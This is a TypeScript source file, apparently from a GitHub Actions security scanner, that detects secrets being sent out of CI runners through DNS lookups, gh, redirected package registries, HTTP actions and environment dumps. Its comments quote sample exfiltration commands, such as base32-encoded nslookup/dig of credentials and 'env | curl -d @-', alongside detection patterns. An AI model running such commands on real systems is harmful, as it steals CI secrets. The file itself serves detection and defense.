  if (GH_SENDS.test(rest)) {
    const target = GH_TARGET_REPO.exec(rest);
    const owner = target?.[1] ?? target?.[3];
    const repo = target?.[2] ?? target?.[4];
    const data = rest.replace(CREDENTIAL_OPTION, ' ');
    const names = secretsIn(data).filter((n) => !GH_TOKEN_VARIABLES.includes(n) || /\$\{?(?:GH_TOKEN|GITHUB_TOKEN)\b|secrets\.GITHUB_TOKEN|github\.token/.test(data));
    if (owner !== undefined && repo !== undefined && !/[{}$:]/.test(owner) && names.length > 0) {
      push(
        'high',
        `Secrets are written into the repository ${owner}/${repo} with gh`,
        `writes ${names.map((n) => (n.startsWith('inputs.') || n.startsWith('toJSON') ? n : `secrets.${n}`)).join(', ')} as data (a field, a body) into ${owner}/${repo}, a repository of another owner than this one: what is posted there (an issue, a comment, a file) is read by that repository's owner, with no curl for a reviewer to notice.`,
        `${OTHER_REPOSITORY_SEND}${owner.toLowerCase()}`,
      );
      return;
    }
  }
  // The token handed to another host.
  const hostMatch = GH_HOSTNAME.exec(line) ?? GH_HOSTNAME.exec(rest);
  const host = (hostMatch?.[1] ?? hostMatch?.[2] ?? env.get('GH_HOST') ?? '').toLowerCase();
  if (host === '' || host.includes('github') || /[{}$]/.test(host)) return;
  const token = GH_TOKEN_VARIABLES.find((v) => {
    const value = env.get(v);
    return value !== undefined && (credentialsIn(value, kind).length > 0 || /\bgithub\.token\b|\bsecrets\s*\.\s*GITHUB_TOKEN\b/i.test(value));
  });
  if (token === undefined) return;
  push('high', `The GitHub token is handed to ${host} with gh`, `points gh at ${host} (--hostname or GH_HOST) with ${token} set: gh sends that token as its credential to whatever host it is told, and ${host} is not GitHub's.`, `${ANONYMOUS_SEND}${host}`);
}

/**
 * A secret or the environment written into the name a DNS lookup asks for (`nslookup "$(echo
 * $T | base32).x.tld"`): the lookup carries it to that domain's name server, no HTTP client needed.
 */
function dnsSent(ctx: RuleContext, where: string, jobId: string, line: string, env: ReadonlyMap<string, string>, assigned: ReadonlyMap<string, Assigned>, variables: ShellVariables): void {
  const kind = ctx.workflow.kind;
  const secretLike = (name: string): boolean => {
    const value = env.get(name);
    return (value !== undefined && (credentialsIn(value, kind).length > 0 || dumpsAllSecrets(value))) || (assigned.get(name)?.secrets.length ?? 0) > 0;
  };
  const lookup = dnsLookupInShell(line, secretLike, variables);
  // What this line assigns is read by the lines after it (`D=$(cat ~/.aws/credentials | base64)`, then `dig "$D.x.tld"`).
  noteShellVariable(line, variables, secretLike);
  if (lookup === null || (lookup.data !== 'secret' && lookup.data !== 'environment' && credentialsIn(line, kind).length === 0)) return;
  ctx.findings.push(
    makeFinding({
      id: 'gha-secrets-exfiltration',
      severity: 'critical',
      title: `Secrets are sent out in a DNS lookup of *.${lookup.domain}`,
      detail: `${where} looks up a name built from ${lookup.data === 'environment' ? 'the whole environment (every secret the step can see)' : 'a secret'} in front of ${lookup.domain}: the lookup carries those labels to that domain's name server, with no HTTP request to notice, and GitHub's log masking never sees them. Fix: remove the step; if it ran, rotate every secret it could see.`,
      path: ctx.path,
      line: lineOf(ctx.content, line.trim()),
      subject: `${jobId}:dns:${line.trim()}`,
    }),
  );
}

/**
 * Where a step sends a Python package upload: `--repository-url URL` (twine, `-repository-url`),
 * `--publish-url URL` (uv), `repository = URL` (a `.pypirc` the script writes), and the step's
 * environment and inputs (`TWINE_REPOSITORY_URL`, `UV_PUBLISH_URL`, `repository-url:` of
 * pypa/gh-action-pypi-publish).
 */
const UPLOAD_URL_OPTION = /(?:-?-repository-url(?:=|[ \t]+)|--publish-url(?:=|[ \t]+)|^[ \t]*repository[ \t]*[=:][ \t]*)["']?(https?:\/\/[a-z0-9.-]{1,253})/gim;
/**
 * Where npm, pnpm or Yarn send a token: the host of an auth line (`//host/path/:_authToken=…`, in an
 * `.npmrc` the script writes or an `npm config set`), which npm sends with every request to that
 * host; and, for a step that publishes, the registry it is told to use (`--registry URL`,
 * `registry=URL`, `npm config set registry URL`, Yarn's `npmRegistryServer`/`npmPublishRegistry`).
 * A scope's registry (`@acme:registry=https://acme.jfrog.io/…`) serves that scope's packages, and
 * takes the token only through an auth line of its own.
 */
const NPM_AUTH_HOST = /\/\/([a-z0-9.-]{1,253})(?::\d{1,5})?\/[^\s:'"=]{0,300}:_auth(?:Token)?\b/gi;
const NPM_REGISTRY_OPTION = /(?:--registry(?:=|[ \t]+)|(?:^|\s)registry[ \t]*=[ \t]*|\bnpm\s+config\s+set\s+registry(?:=|[ \t]+)|\bnpm(?:RegistryServer|PublishRegistry)["']?[ \t]*:[ \t]*)["']?(https?:\/\/[a-z0-9.-]{1,253})/gim;
/** Where cargo publishes: `--index URL` (`sparse+https://…`), a registry's `index = "URL"` in a config the script writes, `CARGO_REGISTRIES_<NAME>_INDEX=URL`. */
const CARGO_INDEX_OPTION = /(?:--index(?:=|[ \t]+)|^[ \t]*index[ \t]*=[ \t]*|\bCARGO_REGISTRIES_\w{1,60}_INDEX=)["']?(?:sparse\+)?(https?:\/\/[a-z0-9.-]{1,253}(?:\/[\w.-]{1,100}){0,2})/gim;
/** Where `gem push` sends a gem: `--host URL`, `RUBYGEMS_HOST=URL`. */
const GEM_HOST_OPTION = /(?:--host(?:=|[ \t]+)|\bRUBYGEMS_HOST=)["']?(https?:\/\/[a-z0-9.-]{1,253})/gi;

/** The commands that upload a Python package. */
const PYPI_UPLOAD = /\btwine\s+upload\b|\b(?:uv|poetry|flit|hatch|pdm)\s+publish\b/;

/** GitHub Packages (`npm.pkg.github.com`, `rubygems.pkg.github.com`): GitHub's own host, which publishes to the owner named in the path. */
const GITHUB_PACKAGES_HOST = /^(?:npm|rubygems|nuget|maven)\.pkg\.github\.com$/;

/**
 * A public registry whose token a release step may hand to another host: the words of a secret's
 * name that say it is that registry's (servicesOf), the registry's own hosts (compared exactly:
 * a look-alike name carries the registry's name), where a step's script, `env:` and `with:` say the
 * upload goes, and, for registries whose client sends the token only when it publishes, what a
 * publishing command looks like.
 */
interface PublishTarget {
  readonly key: string;
  readonly name: string;
  readonly article: string;
  readonly services: readonly string[];
  readonly official: string;
  readonly isOfficial: (host: string, url: string) => boolean;
  /** Script text that always sends the token to its host (npm's auth lines). */
  readonly authInScript?: RegExp;
  /** Script text that names where an upload goes (the URL is group 1). */
  readonly urlInScript: RegExp;
  /** `env:` names whose value is where the upload goes. */
  readonly envSetting: RegExp;
  /** `with:` inputs whose value is where the upload goes, for actions by name (any action when null). */
  readonly withSetting: RegExp;
  readonly withActions: RegExp | null;
  /** A command that publishes: where a registry URL alone hands the token over only then. Null: any upload URL counts. */
  readonly publishes: RegExp | null;
  readonly revoke: string;
  /**
   * Variables the registry's client reads its token from whose names carry no word of the
   * registry's (`NODE_AUTH_TOKEN`, which setup-node writes into the auth line of whatever registry
   * it is given): a private registry's token as often, so they count only for a host spelled like
   * one of `domains` (`registry.npmjs-cdn.org`), unless a workflow says which secret they hold.
   */
  readonly clientTokens: RegExp;
  readonly domains: readonly string[];
}

const PUBLISH_TARGETS: readonly PublishTarget[] = [
  {
    key: 'pypi-upload',
    name: 'PyPI',
    article: 'A',
    services: ['PYPI', 'TWINE'],
    official: 'PyPI (pypi.org)',
    isOfficial: (host) => /^(?:[a-z0-9-]+\.)*pypi\.org$/.test(host),
    urlInScript: UPLOAD_URL_OPTION,
    envSetting: /^(?:TWINE_REPOSITORY_URL|UV_PUBLISH_URL)$/i,
    withSetting: /^(?:repository-url|repository_url)$/i,
    withActions: null,
    publishes: null,
    revoke: 'upload to PyPI itself (or use trusted publishing, with no token at all), and give a private index its own secret; if it ran, revoke the token on PyPI.',
    clientTokens: /^UV_PUBLISH_(?:TOKEN|PASSWORD)$/,
    domains: ['pypi.org', 'pythonhosted.org'],
  },
  {
    key: 'npm-publish',
    name: 'npm',
    article: 'An',
    services: ['NPM'],
    official: 'the npm registry (registry.npmjs.org) or GitHub Packages (npm.pkg.github.com)',
    isOfficial: (host) => host === 'registry.npmjs.org' || host === 'registry.yarnpkg.com' || GITHUB_PACKAGES_HOST.test(host),
    authInScript: NPM_AUTH_HOST,
    urlInScript: NPM_REGISTRY_OPTION,
    envSetting: /^(?:NPM_CONFIG_REGISTRY|YARN_NPM_REGISTRY_SERVER|YARN_NPM_PUBLISH_REGISTRY|YARN_REGISTRY)$/i,
    withSetting: /^registry$/i,
    withActions: /npm-publish/i,
    publishes: /\b(?:npm|pnpm|yarn|bun)\s+(?:[\w-]{1,40}\s+){0,2}publish\b|\b(?:lerna|changeset|changesets)\s+publish\b|\bsemantic-release\b/i,
    revoke: 'publish to registry.npmjs.org (or use trusted publishing, with no token at all), and give a private registry its own secret; if it ran, revoke the token on npmjs.com.',
    clientTokens: /^NODE_AUTH_TOKEN$/,
    domains: ['npmjs.org', 'npmjs.com', 'yarnpkg.com'],
  },
  {
    key: 'cargo-publish',
    name: 'crates.io',
    article: 'A',
    services: ['CARGO', 'CRATES'],
    official: 'crates.io',
    isOfficial: (host, url) => /^(?:index\.|static\.)?crates\.io$/.test(host) || /^https?:\/\/github\.com\/rust-lang\/crates\.io-index/i.test(url),
    urlInScript: CARGO_INDEX_OPTION,
    envSetting: /^CARGO_REGISTRIES_\w{1,60}_INDEX$/i,
    withSetting: /^$/,
    withActions: null,
    publishes: /\bcargo\s+(?:\+\S{1,40}\s+)?publish\b/,
    revoke: 'publish to crates.io (or use trusted publishing, with no token at all), and give a private registry its own secret; if it ran, revoke the token on crates.io.',
    clientTokens: /^$/,
    domains: ['crates.io'],
  },
  {
    key: 'gem-push',
    name: 'RubyGems',
    article: 'A',
    services: ['RUBYGEMS'],
    official: 'rubygems.org or GitHub Packages (rubygems.pkg.github.com)',
    isOfficial: (host) => host === 'rubygems.org' || GITHUB_PACKAGES_HOST.test(host),
    urlInScript: GEM_HOST_OPTION,
    envSetting: /^RUBYGEMS_HOST$/i,
    withSetting: /^$/,
    withActions: null,
    publishes: /\bgem\s+push\b|\brake\s+release\b/,
    revoke: 'push to rubygems.org (or use trusted publishing, with no token at all), and give a private gem server its own secret; if it ran, revoke the key on rubygems.org.',
    clientTokens: /^GEM_HOST_API_KEY$/,
    domains: ['rubygems.org'],
  },
];

/** Words of a secret's name that say nothing about where it is for. */
const GENERIC_NAME_WORD = /^(?:TOKEN|TOKENS|AUTH|API|KEY|KEYS|SECRET|PASSWORD|PUBLISH|PUBLISHING|RELEASE|REGISTRY|ACCESS|AUTOMATION|DEPLOY|CI|BOT|PAT|UPLOAD|HOST|GEM|[A-Z]|\d+)$/;

/**
 * A secret whose name says it is this registry's token: its service words are only the registry's
 * (`NPM_TOKEN`; not `ARTIFACTORY_NPM_TOKEN`), and no other word of it names the host it goes to
 * (`NEXUS_NPM_TOKEN` given to nexus.acme.dev is that server's).
 */
function isTokenFor(target: PublishTarget, name: string, hosts: readonly string[]): boolean {
  const services = servicesOf(name);
  if (services.length === 0 || !services.every((s) => target.services.includes(s))) return false;
  const words = name.toUpperCase().split(/[^A-Z0-9]+/).filter((w) => w.length > 2 && !GENERIC_NAME_WORD.test(w) && !target.services.includes(w));
  return !hosts.some((h) => words.some((w) => h.toUpperCase().includes(w)));
}

/** The hosts a registry URL in `text` names (group 1 of `pattern`), with the URL, from the first 200,000 characters. */
function urlHosts(text: string, pattern: RegExp): { host: string; url: string }[] {
  const out: { host: string; url: string }[] = [];
  for (const m of text.slice(0, 200_000).matchAll(pattern)) {
    const url = m[1] ?? '';
    const host = /^[a-z0-9.-]{1,253}$/i.test(url) ? url.toLowerCase() : hostOf(url);
    if (host !== null && host !== '') out.push({ host, url });
  }
  return out;
}

/**
 * A secret named for a public registry (`PYPI_API_TOKEN`, `NPM_TOKEN`, `CARGO_REGISTRY_TOKEN`,
 * `RUBYGEMS_API_KEY`) given to an upload that goes to another host: a `.pypirc` written with
 * `repository = https://upload.pypi-mirror.dev/legacy/`, `twine upload --repository-url …`, an
 * `.npmrc` auth line `//npm.registry-cdn.dev/:_authToken=${NODE_AUTH_TOKEN}`, `npm publish
 * --registry …`, setup-node's `registry-url:` earlier in the job with the token in NODE_AUTH_TOKEN,
 * `cargo publish --index …`, `gem push --host …`: the release step hands the project's token to
 * whoever runs that host, with no network command to notice: the registry client itself carries the
 * token out. Hosts are compared exactly (a look-alike name carries the
 * registry's); the machine itself (a Verdaccio an end-to-end test starts) is not another host.
 * `setupNodeHosts` are the `registry-url:` hosts of setup-node steps before this one in the job.
 */
function publishTokenSentElsewhere(ctx: RuleContext, where: string, jobId: string, step: RuleContext['workflow']['jobs'][number]['steps'][number], env: ReadonlyMap<string, string>, setupNodeHosts: readonly { host: string; url: string }[]): void {
  const kind = ctx.workflow.kind;
  const scripts = scriptsOf(step);
  const withValues = Object.entries(step.with).filter((e): e is [string, string] => typeof e[1] === 'string');
  const texts = [...scripts, ...[...env.values()], ...withValues.map(([, v]) => v)];
  const named = [...new Set(texts.flatMap((t) => credentialsIn(t, kind)))];
  if (named.length === 0) return;
  const script = scripts.join('\n');
  for (const target of PUBLISH_TARGETS) {
    // The client's own variable (`NODE_AUTH_TOKEN: ${{ secrets.RELEASE_TOKEN }}`) holds the token whatever the secret is called.
    const held = [...env.entries()].filter(([name]) => target.clientTokens.test(name)).flatMap(([, value]) => credentialsIn(value, kind));
    if (held.length === 0 && !named.some((n) => servicesOf(n).some((s) => target.services.includes(s)))) continue;
    const found: { host: string; url: string }[] = target.authInScript === undefined ? [] : urlHosts(script, target.authInScript);
    if (target.publishes === null || target.publishes.test(script) || (usesName(step) !== '' && target.withActions?.test(usesName(step)) === true)) {
      pushAll(found, urlHosts(script, target.urlInScript));
      for (const [name, value] of [...env.entries(), ...(target.withActions === null || target.withActions.test(usesName(step)) ? withValues : [])]) {
        if (!(target.envSetting.test(name) || target.withSetting.test(name))) continue;
        const url = /^(?:sparse\+)?(https?:\/\/[a-z0-9.-]{1,253}\S{0,200})/i.exec(value.trim())?.[1];
        const host = url === undefined ? null : hostOf(url);
        if (url !== undefined && host !== null) found.push({ host, url });
      }
    }
    // setup-node wrote `//host/:_authToken=${NODE_AUTH_TOKEN}` for its registry-url: the token goes there with any npm command.
    if (target.key === 'npm-publish' && credentialsIn(env.get('NODE_AUTH_TOKEN') ?? '', kind).length > 0) pushAll(found, setupNodeHosts);
    const elsewhere = [...new Set(found.filter((f) => !target.isOfficial(f.host, f.url) && !isLoopbackHost(f.host)).map((f) => f.host))];
    if (elsewhere.length === 0) continue;
    let secrets = named.filter((n) => isTokenFor(target, n, elsewhere));
    let shownHosts = elsewhere;
    let what = `a secret named for ${target.name}`;
    if (secrets.length === 0) {
      // A secret of any name in the client's variable goes where the client is told: to a host spelled like the registry, only a phisher's.
      const lookalikes = elsewhere.filter((h) => spelledLikeRegistry(h, target.domains));
      if (lookalikes.length === 0) continue;
      secrets = [...new Set(held)];
      shownHosts = lookalikes;
      what = `the ${target.name} client's token variable`;
    }
    if (secrets.length === 0) continue;
    const shown = secrets.map((n) => (n.startsWith('inputs.') ? n : `secrets.${n}`)).join(', ');
    ctx.findings.push(
      makeFinding({
        id: 'gha-secrets-exfiltration',
        severity: 'high',
        title: target.key === 'pypi-upload' ? `A PyPI token is given to an upload to ${shownHosts.join(', ')}` : `${target.article} ${target.name} token is given to another registry, ${shownHosts.join(', ')}`,
        detail:
          `${where} gives ${shown}, ${what}, to a package ${target.key === 'pypi-upload' ? 'upload whose repository' : 'registry client whose registry'} is ${shownHosts.join(', ')}, not ${target.official}: the ${target.key === 'pypi-upload' ? 'upload' : 'client'} sends the token to that host, whoever runs it. ` +
          `Fix: ${target.revoke}`,
        path: ctx.path,
        line: lineOf(ctx.content, shownHosts[0] ?? '') ?? lineOf(ctx.content, secrets[0] ?? ''),
        subject: `${jobId}:${target.key}:${shownHosts.join(',')}`,
      }),
    );
  }
}

/**
 * The registry tokens a shell text (a script's, a Makefile's or another CI system's pipeline's
 * commands, a program that writes an `.npmrc`) hands to another host, read as
 * publishTokenSentElsewhere reads a workflow step: the variables it reads that are named for a
 * registry (`$NPM_TOKEN`, `$(NPM_TOKEN)`, `${CARGO_REGISTRY_TOKEN}`, `$RUBYGEMS_API_KEY`; not a
 * private registry's, `$NEXUS_NPM_TOKEN`), and the hosts its npm auth lines name or, where it
 * publishes, its upload options name, off the registries' own hosts and the machine itself. A
 * client's own variable (`$NODE_AUTH_TOKEN`) counts for hosts spelled like the registry; `held`
 * names the secret a variable holds where a workflow says so (`NODE_AUTH_TOKEN` → `NPM_TOKEN`),
 * and the variable is then judged by that name. One entry per registry, hosts and tokens sorted.
 */
export function redirectedRegistryTokens(text: string, held: ReadonlyMap<string, string> = new Map()): { registry: string; article: string; hosts: string[]; tokens: string[] }[] {
  if (!text.includes('://') && !text.includes(':_auth')) return [];
  const names = [...shellVariablesIn(text)];
  for (const m of text.matchAll(/\$\(([A-Za-z_]\w{0,63})\)/g)) names.push(m[1]!);
  const judged = (n: string): string => held.get(n) ?? n;
  const out: { registry: string; article: string; hosts: string[]; tokens: string[] }[] = [];
  for (const target of PUBLISH_TARGETS) {
    const client = (n: string): boolean => !held.has(n) && target.clientTokens.test(n);
    if (!names.some((n) => client(n) || servicesOf(judged(n)).some((s) => target.services.includes(s)))) continue;
    const found = target.authInScript === undefined ? [] : urlHosts(text, target.authInScript);
    // Outside a workflow step, a URL counts beside a command that uploads (a pipeline's YAML keys, `repository: https://…`, are no upload).
    if ((target.publishes ?? PYPI_UPLOAD).test(text)) pushAll(found, urlHosts(text, target.urlInScript));
    const elsewhere = [...new Set(found.filter((f) => !target.isOfficial(f.host, f.url) && !isLoopbackHost(f.host)).map((f) => f.host))];
    if (elsewhere.length === 0) continue;
    const lookalikes = elsewhere.filter((h) => spelledLikeRegistry(h, target.domains));
    const named = names.filter((n) => !client(n) && isTokenFor(target, judged(n), elsewhere));
    const clients = lookalikes.length === 0 ? [] : names.filter(client);
    const tokens = [...new Set([...named, ...clients])].sort();
    const hosts = named.length > 0 ? elsewhere.sort() : lookalikes.sort();
    if (tokens.length > 0) out.push({ registry: target.name, article: target.article.toLowerCase(), hosts, tokens });
  }
  return out;
}

/** The `registry-url:` of actions/setup-node in a step. */
function setupNodeRegistry(step: RuleContext['workflow']['jobs'][number]['steps'][number]): { host: string; url: string } | null {
  if (usesName(step) !== 'actions/setup-node') return null;
  const url = step.with['registry-url'];
  if (typeof url !== 'string' || !/^https?:\/\//i.test(url.trim())) return null;
  const host = hostOf(url.trim());
  return host === null ? null : { host, url: url.trim() };
}

/**
 * The hosts of `npm-registry-override` findings that a token-redirect finding of the same workflow
 * already reports (`.npmrc` written with `registry=https://other/` and the token for it): one
 * report, the graver, for one host.
 */
export function dropRegistryOverridesOfRedirectedTokens<T extends { readonly id: string; readonly key: string }>(findings: readonly T[]): T[] {
  const hosts = new Set<string>();
  for (const f of findings) {
    const at = f.id === 'gha-secrets-exfiltration' ? f.key.indexOf(':npm-publish:') : -1;
    if (at >= 0) for (const host of f.key.slice(at + ':npm-publish:'.length).split(',')) hosts.add(host);
  }
  if (hosts.size === 0) return findings.slice();
  return findings.filter((f) => f.id !== 'npm-registry-override' || !hosts.has(f.key.slice(f.key.lastIndexOf(' ') + 1)));
}

/**
 * Actions that make one HTTP request from their inputs (a URL and a body): a step that uses one is
 * a network command written as `with:` instead of `run:` (GhostAction's curl without curl).
 */
const HTTP_REQUEST_ACTION = /^(?:fjogeleit\/http-request-action|satak\/webrequest-action|indiesdev\/curl|tyrrrz\/action-http-request|distributhor\/workflow-webhook|joelwmale\/webhook-action|camilogarcialarotta\/watermelon-http-client)$/;
/** The inputs of such an action that name where the request goes. */
const URL_INPUT = /^(?:url|webhook[_-]?url|endpoint)$/i;
/** The inputs that hold what the request sends as data (not `headers`, `bearerToken`, `username`/`password`: a credential for the host). */
const BODY_INPUT = /^(?:data|body|payload|files?|form|params|query|content)$/i;

/**
 * A step of an HTTP request action read as the curl command it stands for (`curl -d '<data>'
 * <url>`), so that a secret in its body goes through the same judgement as a `run:` step's:
 * sentElsewhere, at the line of the step's `uses:`.
 */
function httpActionSent(ctx: RuleContext, where: string, jobId: string, step: RuleContext['workflow']['jobs'][number]['steps'][number], env: ReadonlyMap<string, string>): void {
  if (step.uses === null || !HTTP_REQUEST_ACTION.test(usesName(step))) return;
  const inputs = Object.entries(step.with).filter((entry): entry is [string, string] => typeof entry[1] === 'string');
  const url = inputs.find(([key, value]) => URL_INPUT.test(key) && /^\s*https?:\/\//i.test(value))?.[1].trim();
  const body = inputs.filter(([key]) => BODY_INPUT.test(key)).map(([, value]) => value.replace(/\s+/g, ' ').replace(/'/g, '"'));
  if (url === undefined || body.length === 0) return;
  const before = ctx.findings.length;
  sentElsewhere(ctx, where, jobId, `curl -X POST -d '${body.join(' ').slice(0, 2000)}' ${url}`, env, new Map());
  const line = lineOf(ctx.content, step.uses);
  for (let i = before; i < ctx.findings.length; i += 1) {
    const f = ctx.findings[i];
    if (f !== undefined && f.line === null) ctx.findings[i] = { ...f, line };
  }
}

export function secretRules(ctx: RuleContext): void {
  const kind = ctx.workflow.kind;
  for (const job of ctx.workflow.jobs) {
    secretsInArtifacts(ctx, job);
    const setupNodeHosts: { host: string; url: string }[] = [];
    for (const step of job.steps) {
      const where = `Job ${job.id}${step.name ? `, step "${step.name}"` : ''}`;
      const env = envOf(ctx.workflow, job, step);
      publishTokenSentElsewhere(ctx, where, job.id, step, env, setupNodeHosts);
      httpActionSent(ctx, where, job.id, step, env);
      const registry = setupNodeRegistry(step);
      if (registry !== null) setupNodeHosts.push(registry);
      const allSecretsHere = dumpsAllSecrets(step.raw) || [...env.values()].some((v) => dumpsAllSecrets(v));
      for (const script of scriptsOf(step)) {
        const assigned = new Map<string, Assigned>();
        const variables: ShellVariables = new Map();
        const values = new Map<string, string>();
        const lines = script.split('\n');
        // Names of an inline script that hold the whole environment, or a value made of it (`snap = dict(os.environ)`, `body = json.dumps(snap)`).
        const envHolders = new Set<string>();
        for (let i = 0; i < lines.length; i += 1) {
          const line = lines[i] ?? '';
          noteAssignment(withHeredocBody(lines, i), env, assigned, kind);
          noteValue(line, values);
          dnsSent(ctx, where, job.id, line, env, assigned, variables);
          ghSent(ctx, where, job.id, line, env, assigned);
          const takesEnv = takesWholeEnvironment(line) || [...envHolders].some((name) => namesWord(line, name));
          if (!NETWORK_COMMAND.test(line)) {
            const holder = takesEnv ? INLINE_HOLDER.exec(line)?.[1] : undefined;
            if (holder !== undefined && envHolders.size < MAX_ENV_HOLDERS) envHolders.add(holder);
            continue;
          }
          const read = [...shellVariablesIn(line)];
          const secretVars = read.filter((name) => {
            const value = env.get(name);
            return value !== undefined && (credentialsIn(value, kind).length > 0 || dumpsAllSecrets(value));
          });
          // Variables this script assigned a secret to (`C="$(cat <<'EOF'` … toJSON(secrets) …): sent to a collector, the secret is.
          const assignedVars = read.filter((name) => !secretVars.includes(name) && (assigned.get(name)?.secrets.length ?? 0) > 0);
          const direct = credentialsIn(line, kind);
          const carriesSecrets = secretVars.length > 0 || direct.length > 0 || dumpsAllSecrets(line);
          // The shell's listing (`env | curl -d @- …`), or an inline script's request that carries the environment taken whole (`urlopen(u, data=json.dumps(dict(os.environ)).encode())`).
          const dumpsEnv = ENV_DUMP.test(line) || takesEnv;
          // The host may be spelled through the script's own variables (`D="$H.45-139-104-115.plesk.page"`, `https://$D/`).
          const hostLine = expandAssigned(line, values);
          const collector = COLLECTOR_HOST.exec(hostLine)?.[0] ?? publicIpIn(hostLine) ?? ipInHostname(hostLine);
          if (!((carriesSecrets || dumpsEnv) && (collector !== null || dumpsEnv || dumpsAllSecrets(line) || (allSecretsHere && secretVars.length > 0))) && !(assignedVars.length > 0 && collector !== null)) {
            sentElsewhere(ctx, where, job.id, line, env, assigned);
            continue;
          }
          const viaAssigned = assignedVars.flatMap((n) => assigned.get(n)?.secrets ?? []);
          const what = dumpsEnv ? 'the whole environment (every secret the step can see)' : [...new Set([...direct, ...viaAssigned].map(shownSecret)), ...secretVars.map((n) => `$${n}`)].join(', ') || 'all secrets';
          ctx.findings.push(
            makeFinding({
              id: 'gha-secrets-exfiltration',
              severity: 'critical',
              title: `Secrets are sent over the network${collector ? ` to ${collector}` : ''}`,
              detail:
                `${where} sends ${what} with a network command${collector ? ` to ${collector}, a host made to collect requests for someone else to read` : ''}. ` +
                'This is how stolen CI credentials leave a runner. Fix: remove the step; if it ran, rotate every secret it could see.',
              path: ctx.path,
              line: lineOf(ctx.content, line.trim()),
              subject: `${job.id}:${line.trim()}`,
            }),
          );
        }
      }
      if (allSecretsHere) {
        ctx.findings.push(
          makeFinding({
            id: 'gha-overprovisioned-secrets',
            severity: 'high',
            title: 'Every repository secret is handed to one step (toJSON(secrets))',
            detail: `${where} expands toJSON(secrets): all secrets of the repository and organization reach that step and whatever it runs, which no task needs. Fix: pass only the secrets it needs, one by one (secrets.NAME).`,
            path: ctx.path,
            line: lineOf(ctx.content, 'toJSON(secrets') ?? lineOf(ctx.content, 'tojson(secrets'),
            subject: `${job.id}:${step.id ?? step.name ?? step.run ?? step.uses ?? ''}`,
          }),
        );
      }
      for (const script of scriptsOf(step)) {
        printedEncoded(ctx, where, job.id, script, env);
        readsRunnerMemory(ctx, where, job.id, script);
        const lines = script.split('\n');
        if (!secretNamedSent(ctx, where, job.id, lines)) secretListLooped(ctx, where, job.id, lines, env);
      }
      const raw = JSON.stringify(step.raw);
      const unredacted = /fromJSON\(\s*secrets\.([a-z_][\w-]*)\s*\)/i.exec(raw);
      if (unredacted !== null) {
        ctx.findings.push(
          makeFinding({
            id: 'gha-unredacted-secrets',
            severity: 'medium',
            title: `A field of secrets.${unredacted[1]} is used (fromJSON)`,
            detail: `${where} reads a field out of the JSON secret ${unredacted[1]}: GitHub masks the secret's whole text in logs, not the fields taken from it, so they can be printed in the clear. Fix: store each field as a secret of its own.`,
            path: ctx.path,
            line: lineOf(ctx.content, `secrets.${unredacted[1]}`),
            subject: `${job.id}:${unredacted[1]}`,
          }),
        );
      }
    }
  }
}


export function secretsInheritRules(ctx: RuleContext): void {
  for (const job of ctx.workflow.jobs) {
    if (job.uses === null || job.secrets !== 'inherit') continue;
    if (isLocalUses(job.uses)) continue;
    const parsed = parseUses(job.uses);
    if (parsed === null) continue;
    const pinned = parsed.ref !== null && isFullCommitSha(parsed.ref);
    ctx.findings.push(
      makeFinding({
        id: 'gha-secrets-inherit',
        severity: pinned ? 'medium' : 'high',
        title: `Every secret is passed to ${parsed.name}${pinned ? '' : ` at a ref its owner can move (${parsed.ref ?? 'default branch'})`}`,
        detail:
          `Job ${job.id} calls a reusable workflow of another repository with secrets: inherit, so it receives all of this repository's secrets` +
          `${pinned ? '' : ', and whoever can push to that repository decides what runs with them'}. ` +
          'Fix: list only the secrets it needs under secrets:, and pin the workflow to a full commit SHA.',
        path: ctx.path,
        line: lineOf(ctx.content, 'secrets: inherit'),
        package: parsed.name,
        subject: job.id,
      }),
    );
  }
}
